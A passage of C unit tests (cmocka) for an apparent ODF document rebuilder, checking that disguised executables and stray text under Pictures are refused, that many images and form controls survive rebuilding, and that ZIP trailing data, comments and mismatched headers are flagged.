		{ "Pictures/a.svm", "VCLMTF\1\2", 8 },
		{ "Pictures/TablePreview1.svm", "VCLMTF\1\2", 8 },
		{ "Pictures/a.txt", "just words", 0 },
		{ "Pictures/a.exe", "MZ\220\0\3", 5 },
		{ NULL, NULL, 0 },
	};
	own_odf_tried struct odf_tried t = odf_try("rebuild", "text", parts);
	own_buf struct buf text = { 0 };

	(void)state;
	assert_true(t.ok);
	assert_int_equal(odf_found(&t, FINDING_ODF_PREVIEW), 1);
	/* Words are no picture; who draws metafiles is not here. */
	assert_int_equal(odf_found(&t, FINDING_PART_REFUSED), 2);
	assert_int_equal(odf_found(&t, FINDING_REPAIRED), 1);
	assert_int_equal(odf_found(&t, FINDING_ODF_MISSING), 0);
	assert_true(odf_entry(&t, "content.xml", &text));
	assert_non_null(strstr((char *)text.p, "xlink:href=\"Pictures/1.png\""));
	assert_null(strstr((char *)text.p, "Pictures/2"));
	assert_false(odf_entry(&t, "settings.xml", &text));
	assert_true(odf_settled(&t, "rebuild"));
}

/* Many of each: tables grow, numbers go on. */
static void
many(void **state)
{
	enum { MANY = 150 };
	own_buf struct buf content = { 0 }, text = { 0 };
	static struct odf_part parts[MANY + 2];
	static char names[MANY][32];
	own_odf_tried struct odf_tried t = { 0 };
	size_t i;

	(void)state;
	(void)buf_str(&content, "<office:document-content" ODF_SPACES "><office:body><office:text><office:forms><form:form>");
	for (i = 0; i < MANY; i++)
		(void)buf_printf(&content, "<form:fixed-text xml:id=\"c%zu\" form:label=\"l%zu\"/>", i, i);
	(void)buf_str(&content, "</form:form></office:forms><text:p>");
	for (i = 0; i < MANY; i++) {
		(void)snprintf(names[i], sizeof names[i], "Pictures/p%zu.png", i);
		parts[i + 1] = (struct odf_part){ names[i], PNG };
		(void)buf_printf(&content, "<draw:frame><draw:image xlink:href=\"%s\"/></draw:frame>"
				 "<draw:control draw:control=\"c%zu\"/>", names[i], i);
	}
	(void)buf_str(&content, "</text:p></office:text></office:body></office:document-content>");
	(void)buf_byte(&content, '\0');
	parts[0] = (struct odf_part){ "content.xml", (const char *)content.p, 0 };
	t = odf_try("rebuild", "text", parts);
	assert_true(t.ok);
	assert_true(odf_entry(&t, "content.xml", &text));
	assert_non_null(strstr((char *)text.p, "Pictures/150.png"));
	assert_non_null(strstr((char *)text.p, "<text:p>l149</text:p>"));
	assert_true(odf_settled(&t, "rebuild"));
}

/* What is told of the archive itself. */
static void
archive(void **state)
{
	static const struct odf_part parts[] = { { "content.xml", ODF_TEXT(""), 0 }, { NULL, NULL, 0 } };
	own_buf struct buf in = { 0 };
	uint8_t *at;

	(void)state;
	odf_pack("text", parts, &in);
	(void)buf_str(&in, "behind");
	{
		own_odf_tried struct odf_tried t = odf_try_bytes("rebuild", NULL, buf_bytes(&in));

		assert_true(t.ok);
		assert_int_equal(odf_found(&t, FINDING_TRAILING_DATA), 1);
	}
	/* A comment: its length in the end record. */
	in.p[in.n - 8] = 6;
	{
		own_odf_tried struct odf_tried t = odf_try_bytes("rebuild", NULL, buf_bytes(&in));

		assert_true(t.ok);
		assert_int_equal(odf_found(&t, FINDING_ZIP_COMMENT), 1);
	}
	/* The local header's name is another. */
	at = in.p + view_find(buf_bytes(&in), 0, VIEW("content.xml"));
	*at = 'k';
	{
		own_odf_tried struct odf_tried t = odf_try_bytes("rebuild", NULL, buf_bytes(&in));

		assert_false(t.ok);
		assert_int_equal(odf_found(&t, FINDING_ZIP_DISAGREE), 1);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(markup),	      cmocka_unit_test(package),
		cmocka_unit_test(description_goes),   cmocka_unit_test(picture_in_markup),
		cmocka_unit_test(refused),	      cmocka_unit_test(deep),
		cmocka_unit_test(pictures),	      cmocka_unit_test(many),
		cmocka_unit_test(archive),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
